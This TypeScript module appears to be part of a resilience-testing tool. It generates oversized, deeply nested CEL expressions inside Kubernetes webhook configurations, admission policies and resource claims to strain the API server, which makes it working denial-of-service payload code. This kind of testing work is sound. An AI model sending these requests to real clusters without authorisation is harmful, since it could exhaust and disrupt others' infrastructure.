import type { HostileRequest } from '../attack.js';
import { patch, post, remove } from '../requests.js';
import { namespace } from '../templates.js';

const admission = '/apis/admissionregistration.k8s.io/v1';
const resource = '/apis/resource.k8s.io/v1';

const times = <T>(count: number, item: (n: number) => T): T[] =>
  Array.from({ length: Math.floor(count) }, (_, n) => item(n));
const repeat = (count: number, text: string) => text.repeat(Math.floor(count));

const matchConstraints = {
  resourceRules: [{ operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['pods'] }],
};
const object = (kind: string, content: object) => ({
  apiVersion:
    kind.startsWith('Device') || kind.startsWith('Resource') ? 'resource.k8s.io/v1' : 'admissionregistration.k8s.io/v1',
  kind,
  metadata: { name: 'attack' },
  ...content,
});
const configuration = (conditions: readonly string[], webhooks = 1) =>
  object('ValidatingWebhookConfiguration', {
    webhooks: times(webhooks, (n) => ({
      name: `w${n}.attack.example.com`,
      sideEffects: 'None',
      admissionReviewVersions: ['v1'],
      clientConfig: { url: 'https://attack.example.com' },
      matchConditions: conditions.map((expression, index) => ({ name: `c${index}`, expression })),
    })),
  });
const policy = (spec: object) =>
  object('ValidatingAdmissionPolicy', { spec: { matchConstraints, validations: [{ expression: 'true' }], ...spec } });
const mutating = (expressions: readonly string[]) =>
  object('MutatingAdmissionPolicy', {
    spec: {
      matchConstraints,
      reinvocationPolicy: 'Never',
      mutations: expressions.map((expression) => ({
        patchType: 'ApplyConfiguration',
        applyConfiguration: { expression },
      })),
    },
  });
const claim = (expressions: readonly string[], requests: number) =>
  object('ResourceClaim', {
    spec: {
      devices: {
        requests: times(requests, (n) => ({
          name: `r${n}`,
          exactly: { deviceClassName: 'c', selectors: expressions.map((expression) => ({ cel: { expression } })) },
        })),
      },
    },
  });

/** Expressions that are costly to compile, of about 90,000 characters. */
const huge = (size: number): readonly (readonly [about: string, expression: string])[] => [
  ['conditions', times(3_500 * size, (n) => `request.name == '${n}'`).join(' && ')],
  ['macros in macros', `${repeat(240 * size, '[object].all(x, ')}true${repeat(240 * size, ')')}`],
  ['macros in sequence', times(3_000 * size, () => 'object.a.all(x, x > 0)').join(' && ')],
  ['structs in structs', `${repeat(240 * size, 'Object{a: ')}1${repeat(240 * size, '}')} == 1`],
  ['selections', `object${repeat(45_000 * size, '.a')} == 1`],
  ['a syntax error', `${times(3_500 * size, (n) => `request.name == '${n}'`).join(' && ')} &&`],
];

/** Webhook configurations, policies and claims of up to 3 MiB that are full of expressions. */
export function* builtInExpressions(size: number): Generator<HostileRequest> {
  const dryRun = (path: string) => `${path}?dryRun=All`;
  const webhooks = `${admission}/validatingwebhookconfigurations`;
  const policies = `${admission}/validatingadmissionpolicies`;
  const claims = `${resource}/namespaces/${namespace}/resourceclaims`;
  const small = (n: number) => `request.name != 'n${n}'`;
  for (const [about, expression] of huge(size)) {
    const many = times(28 * size, (n) => `${expression} || ${n} > 0`);
    yield post(`webhook: ${about}`, dryRun(webhooks), configuration(many));
    yield post(
      `policy: ${about}`,
      dryRun(policies),
      policy({ validations: many.map((text) => ({ expression: text })) }),
    );
    yield post(`mutating policy: ${about}`, dryRun(`${admission}/mutatingadmissionpolicies`), mutating(many));
  }
  yield post('webhook: many conditions', dryRun(webhooks), configuration(times(16_000 * size, small)));
  yield post('webhook: many webhooks', dryRun(webhooks), configuration(times(10, small), 1_100 * size));
  yield post(
    'webhook: many wrong conditions',
    dryRun(webhooks),
    configuration(times(16_000 * size, (n) => `nope${n}`)),
  );
  const many = times(16_000 * size, (n) => ({ expression: small(n), messageExpression: `'a${n}'` }));
  yield post('policy: many validations', dryRun(policies), policy({ validations: many }));
  const variables = times(16_000 * size, (n) => ({
    name: `v${n}`,
    expression: n === 0 ? '1' : `variables.v${n - 1} + 1`,
  }));
  yield post('policy: many variables', dryRun(policies), policy({ variables }));
  const nested = times(400 * size, (n) => ({ name: `v${n}`, expression: n === 0 ? '1' : `[variables.v${n - 1}]` }));
  yield post('policy: variables of nested lists', dryRun(policies), policy({ variables: nested }));
  const doubled = times(60, (n) => ({
    name: `v${n}`,
    expression: n === 0 ? '1' : `{variables.v${n - 1}: variables.v${n - 1}}`,
  }));
  yield post('policy: variables of types that double', dryRun(policies), policy({ variables: doubled }));
  const annotations = times(16_000 * size, (n) => ({ key: `k${n}`, valueExpression: `'a${n}' + object.b` }));
  yield post('policy: many audit annotations', dryRun(policies), policy({ auditAnnotations: annotations }));
  const selector = (n: number) => `device.attributes['a'].b == ${n}`;
  yield post('claim: many selectors', dryRun(claims), claim(times(500 * size, selector), 32));
  const longSelector = repeat(280 * size, "device.driver.matches('^a*$') && ").concat('true');
  yield post(
    'claim: long selectors',
    dryRun(claims),
    claim(
      times(9 * size, (n) => `${longSelector} || ${n} > 0`),
      32,
    ),
  );
  const loops = `${repeat(100 * size, 'device.attributes.all(a, ')}true${repeat(100 * size, ')')}`;
  yield post(
    'claim: selectors of nested macros',
    dryRun(claims),
    claim(
      times(32 * size, () => loops),
      32,
    ),
  );
  const stored = { ...configuration(times(40, small), 300 * size), metadata: { name: 'attack.stored' } };
  yield post('webhook: stored', webhooks, stored);
  const changed = { ...configuration([...times(40, small), 'true'], 300 * size), metadata: {} };
  yield patch('webhook: changed', `${webhooks}/attack.stored`, changed, 'mergePatch');
  yield remove('webhook: deleted', `${webhooks}/attack.stored`);
}
